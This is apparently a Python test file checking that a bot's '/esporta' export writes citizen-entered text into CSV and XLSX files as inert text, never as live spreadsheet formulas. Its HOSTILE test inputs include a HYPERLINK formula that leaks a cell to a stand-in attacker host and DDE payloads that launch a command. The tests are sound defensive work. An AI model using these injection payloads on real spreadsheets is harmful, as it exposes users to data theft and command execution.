"""Issue 13: a citizen's words never become a live formula in the CSV or XLSX of `/esporta`."""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from bot.exports import header, neutralise, write

HOSTILE = (
    '=HYPERLINK("https://evil.example/?d="&A1,"Clicca")',
    "+39 333 1234567",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
)


def _line(description: str) -> list[object]:
    return ["K7M-R4P", "2026-11-23T10:00:00+00:00", "spesa", "Ravenna", "039014", "alta", "nuova", "", "", "", "",
            description, "telefono", "+393331234567", 44.41, -12.2]


def _cells(tmp_path: Path, description: str) -> tuple[list[str], list[tuple[object, str]]]:
    files = write(tmp_path, "x", header(True), [_line(description)])
    with files.csv_path.open(encoding="utf-8-sig", newline="") as fp:
        [_, row] = list(csv.reader(fp))
    sheet = load_workbook(files.xlsx_path).active
    assert sheet is not None
    xlsx = [(c.value, c.data_type) for c in sheet[2]]
    with zipfile.ZipFile(files.xlsx_path) as z:
        assert not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
    return row, xlsx


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_is_inert_in_both_files(tmp_path: Path, text: str) -> None:
    row, xlsx = _cells(tmp_path, text)
    assert row[11] == "'" + text  # OWASP: a leading ' makes spreadsheets read the cell as text
    # An XLSX string cell, never a formula, the words unchanged (XML reads a bare CR as a line feed).
    assert xlsx[11] == (text.replace("\r", "\n"), "s")
    assert row[13] == "'+393331234567" and xlsx[13] == ("+393331234567", "s")
    assert xlsx[14] == (44.41, "n") and xlsx[15] == (-12.2, "n") and row[15] == "-12.2"  # numbers stay numbers


def test_plain_text_is_untouched(tmp_path: Path) -> None:
    row, xlsx = _cells(tmp_path, "Mi servono zucchine, 2 kg - grazie")
    assert row[11] == "Mi servono zucchine, 2 kg - grazie" and xlsx[11] == ("Mi servono zucchine, 2 kg - grazie", "s")


@given(st.text())
@settings(max_examples=300)
def test_no_string_ever_starts_like_a_formula_once_neutralised(text: str) -> None:
    safe = neutralise(text)
    assert isinstance(safe, str)
    assert safe == text or safe == "'" + text
    assert not safe.lstrip(" \n\u00a0")[:1] in ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
